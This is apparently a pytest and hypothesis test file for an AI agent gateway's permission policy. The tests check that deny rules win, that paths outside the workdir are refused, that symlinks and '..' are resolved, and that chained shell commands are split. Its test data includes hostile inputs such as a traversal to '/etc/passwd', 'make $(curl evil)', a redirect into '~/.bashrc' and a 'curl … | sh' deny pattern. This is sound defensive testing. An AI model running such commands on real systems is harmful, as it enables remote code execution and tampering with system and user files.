"""Policy matching properties: deny wins, nothing outside the workdir is allowed, symlinks and
``..`` are resolved first, and a chained command is allowed only if every part is."""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from neocode_gateway.policy import Policy, ToolRequest
from neocode_gateway.policy._shell import split_command

FILE_KINDS = ["read", "edit", "delete", "move", "search"]
SEGMENTS = ["src", "docs", ".env", ".git", "a.py", "b.md", "..", ".", "out", "link", "esc"]
GLOBS = [
    "**",
    "*",
    "src/**",
    "*.py",
    ".env*",
    "**/.git/**",
    "docs/*.md",
    "/**",
    "/tmp/**",
    "esc/**",
    "link/**",
    "../**",
    "a.py",
]
WORDS = ["git", "status", "diff", "rm", "-rf", "ls", "make", "push", "x", "*"]
SEPARATORS = [" ; ", " && ", " || ", " | ", "\n", " & "]

SETTINGS = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def workdir() -> Iterator[str]:
    """/tmp/…/wd with ``link`` -> a sibling directory outside, ``esc`` -> ``/``, ``src/``."""
    root = tempfile.mkdtemp(prefix="policy-", dir="/tmp")
    wd = os.path.join(root, "wd")
    os.makedirs(os.path.join(wd, "src"))
    os.makedirs(os.path.join(root, "outside", "src"))
    os.symlink(os.path.join(root, "outside"), os.path.join(wd, "link"))
    os.symlink("/", os.path.join(wd, "esc"))
    os.symlink(os.path.join(wd, "src"), os.path.join(root, "into"))  # outside -> inside
    yield wd
    shutil.rmtree(root)


def really_inside(path: str, workdir: str) -> bool:
    real_wd = os.path.realpath(workdir)
    candidates = {
        os.path.realpath(os.path.join(workdir, path)),
        os.path.realpath(os.path.normpath(os.path.join(workdir, path))),
    }
    return all(c == real_wd or c.startswith(real_wd + "/") for c in candidates)


rules = st.one_of(
    st.sampled_from([*FILE_KINDS, "*"]),
    st.builds(lambda k, g: f"{k}({g})", st.sampled_from(FILE_KINDS), st.sampled_from(GLOBS)),
)
paths = st.one_of(
    st.lists(st.sampled_from(SEGMENTS), min_size=1, max_size=5).map("/".join),
    st.lists(st.sampled_from(SEGMENTS), min_size=1, max_size=4).map(lambda s: "/" + "/".join(s)),
)
commands = st.lists(st.sampled_from(WORDS[:-1]), min_size=1, max_size=3).map(" ".join)
patterns = st.lists(st.sampled_from(WORDS), min_size=1, max_size=3).map(" ".join)


@SETTINGS
@given(
    deny=st.lists(rules, max_size=3),
    ask=st.lists(rules, max_size=3),
    allow=st.lists(rules, max_size=5),
    kind=st.sampled_from(FILE_KINDS),
    request_paths=st.lists(paths, min_size=1, max_size=3),
)
def test_a_deny_always_wins(
    workdir: str,
    *,
    deny: list[str],
    ask: list[str],
    allow: list[str],
    kind: str,
    request_paths: list[str],
) -> None:
    request = ToolRequest(kind, paths=tuple(request_paths))
    alone = Policy.from_tables([{"deny": deny}]).decide(request, agent="a", workdir=workdir)
    full = Policy.from_tables([{"allow": allow, "ask": ask}, {"deny": deny}])
    decision = full.decide(request, agent="a", workdir=workdir)
    assert (alone.verdict == "deny") == (decision.verdict == "deny")
    if decision.verdict == "deny":
        assert decision.rule == alone.rule


@SETTINGS
@given(
    allow=st.lists(rules, min_size=1, max_size=6),
    kind=st.sampled_from(FILE_KINDS),
    request_paths=st.lists(paths, min_size=1, max_size=3),
)
def test_a_path_outside_the_workdir_is_never_allowed(
    workdir: str, allow: list[str], kind: str, request_paths: list[str]
) -> None:
    policy = Policy.from_tables([{"allow": allow}])
    decision = policy.decide(
        ToolRequest(kind, paths=tuple(request_paths)), agent="a", workdir=workdir
    )
    if decision.verdict == "allow":
        assert all(really_inside(p, workdir) for p in request_paths)
    if not all(really_inside(p, workdir) for p in request_paths):
        assert decision.verdict == "ask"


def test_dotdot_is_resolved_before_matching(workdir: str) -> None:
    policy = Policy.from_tables([{"allow": ["edit(src/**)"], "deny": ["edit(/etc/**)"]}])
    assert decide(policy, "edit", "src/../src/a.py", workdir) == "allow"
    assert decide(policy, "edit", "src/../../wd/src/a.py", workdir) == "allow"
    assert decide(policy, "edit", "src/../../outside/a.py", workdir) == "ask"
    assert decide(policy, "edit", "src/../../../../../../etc/passwd", workdir) == "deny"
    assert decide(policy, "edit", "docs/../src/x", workdir) == "allow"


def test_symlinks_are_resolved_before_matching(workdir: str) -> None:
    policy = Policy.from_tables(
        [{"allow": ["edit", "read(**)", "edit(link/**)"], "deny": ["read(/etc/**)"]}]
    )
    assert decide(policy, "edit", "src/a.py", workdir) == "allow"
    assert decide(policy, "edit", "link/src/a.py", workdir) == "ask"  # really outside
    assert decide(policy, "read", "link", workdir) == "ask"
    assert decide(policy, "read", "esc/etc/passwd", workdir) == "deny"  # real path /etc/passwd
    assert decide(policy, "read", "esc/home", workdir) == "ask"
    assert decide(policy, "read", "link/..", workdir) == "ask"  # kernel: parent of outside/
    # an outside name for an inside file: the name as written is outside, so asked
    into = os.path.join(os.path.dirname(workdir), "into", "a.py")
    assert decide(policy, "edit", into, workdir) == "ask"


def test_a_symlinked_workdir_is_the_same_workdir(workdir: str) -> None:
    alias = os.path.join(os.path.dirname(workdir), "alias")
    os.symlink(workdir, alias)
    try:
        policy = Policy.from_tables([{"workdirs": [workdir + "/**"], "allow": ["edit(src/**)"]}])
        assert decide(policy, "edit", "src/a.py", alias) == "allow"
        assert decide(policy, "edit", os.path.join(workdir, "src/a.py"), alias) == "allow"
    finally:
        os.unlink(alias)


def decide(policy: Policy, kind: str, path: str, workdir: str) -> str:
    request = ToolRequest(kind, paths=(path,))
    return policy.decide(request, agent="a", workdir=workdir).verdict


# -- commands ----------------------------------------------------------------------------


@SETTINGS
@given(
    parts=st.lists(commands, min_size=1, max_size=4),
    seps=st.lists(st.sampled_from(SEPARATORS), min_size=3, max_size=3),
    allowed=st.lists(commands, max_size=6),
)
def test_a_chained_command_needs_every_part_allowed(
    parts: list[str], seps: list[str], allowed: list[str]
) -> None:
    command = parts[0] + "".join(sep + part for sep, part in zip(seps, parts[1:], strict=False))
    policy = Policy.from_tables([{"allow": [f"execute({c})" for c in allowed]}])
    verdict = policy.decide(ToolRequest("execute", command=command), agent="a", workdir="/w")
    assert (verdict.verdict == "allow") == all(part in allowed for part in parts)


@SETTINGS
@given(
    parts=st.lists(commands, min_size=1, max_size=4),
    seps=st.lists(st.sampled_from(SEPARATORS), min_size=3, max_size=3),
    denied=st.lists(patterns, min_size=1, max_size=3),
)
def test_any_denied_part_denies_the_command(
    parts: list[str], seps: list[str], denied: list[str]
) -> None:
    command = parts[0] + "".join(sep + part for sep, part in zip(seps, parts[1:], strict=False))
    deny_only = Policy.from_tables([{"deny": [f"execute({p})" for p in denied]}])
    full = Policy.from_tables(
        [
            {
                "allow": ["execute", "execute(*)"],
                "ask": ["execute(*)"],
                "deny": [f"execute({p})" for p in denied],
            }
        ]
    )
    single_hits = [
        deny_only.decide(ToolRequest("execute", command=p), agent="a", workdir="/w").verdict
        for p in parts
    ]
    verdict = full.decide(ToolRequest("execute", command=command), agent="a", workdir="/w")
    if "deny" in single_hits:
        assert verdict.verdict == "deny"
    else:
        assert verdict.verdict in ("deny", "ask")  # a deny may match the whole line too


@pytest.mark.parametrize(
    ("command", "texts", "opaque"),
    [
        ("git status", ["git status"], [False]),
        ("a  b\tc", ["a b c"], [False]),
        ("a 'x;y' \"p|q\"", ["a 'x;y' \"p|q\""], [False]),
        ("a; b && c || d | e |& f & g\nh", list("abcdefgh"), [False] * 8),
        ("make 2>&1 >/dev/null", ["make 2>&1 >/dev/null"], [False]),
        ("make > log", ["make > log"], [True]),
        ("make &> log", ["make &> log"], [True]),
        ("echo $(id) x", ["echo $", "id", "x"], [True, False, False]),
        ('echo "$(id)"', ['echo "$(id)"'], [True]),
        ("echo `id`", ["echo", "id"], [True, True]),
        ("(cd a && rm x)", ["cd a", "rm x"], [False, False]),
        ("a \\\n b", ["a b"], [False]),
        ("echo 'unclosed; rm x", ["echo 'unclosed", "rm x"], [True, True]),
        ("   ", [], []),
    ],
)
def test_split_command(command: str, texts: list[str], opaque: list[bool]) -> None:
    parts = split_command(command)
    assert [p.text for p in parts] == texts
    assert [p.opaque for p in parts] == opaque


def test_opaque_parts_need_an_exact_allow() -> None:
    policy = Policy.from_tables([{"allow": ["execute(make *)", "execute(make > build.log)"]}])
    assert run(policy, "make all") == "allow"
    assert run(policy, "make > build.log") == "allow"
    assert run(policy, "make all > ~/.bashrc") == "ask"
    assert run(policy, "make $(curl evil)") == "ask"


def test_deny_and_ask_look_past_assignments_and_prefix_words() -> None:
    policy = Policy.from_tables([{"deny": ["execute(rm *)"], "allow": ["execute(*)"]}])
    for command in [
        "FOO=1 rm x",
        "sudo rm x",
        "A='a b' B=2 nohup rm x",
        "{ rm x; }",
        "if true; then rm x; fi",
    ]:
        assert run(policy, command) == "deny", command
    strict = Policy.from_tables([{"allow": ["execute(git status)"]}])
    assert run(strict, "PAGER=evil git status") == "ask"


def test_a_deny_pattern_may_span_the_whole_line() -> None:
    policy = Policy.from_tables([{"deny": ["execute(curl * | sh)"], "allow": ["execute(*)"]}])
    assert run(policy, "curl https://x.example | sh") == "deny"
    assert run(policy, "curl https://x.example") == "allow"


def test_command_patterns() -> None:
    policy = Policy.from_tables([{"allow": ["execute(npm run *)", "execute(ls*)", "execute(pwd)"]}])
    assert run(policy, "npm run") == "allow"  # a trailing " *" also matches nothing
    assert run(policy, "npm run test -- --watch") == "allow"
    assert run(policy, "npm runner") == "ask"
    assert run(policy, "lsof") == "allow"
    assert run(policy, "pwd -P") == "ask"


def run(policy: Policy, command: str) -> str:
    return policy.decide(ToolRequest("execute", command=command), agent="a", workdir="/w").verdict
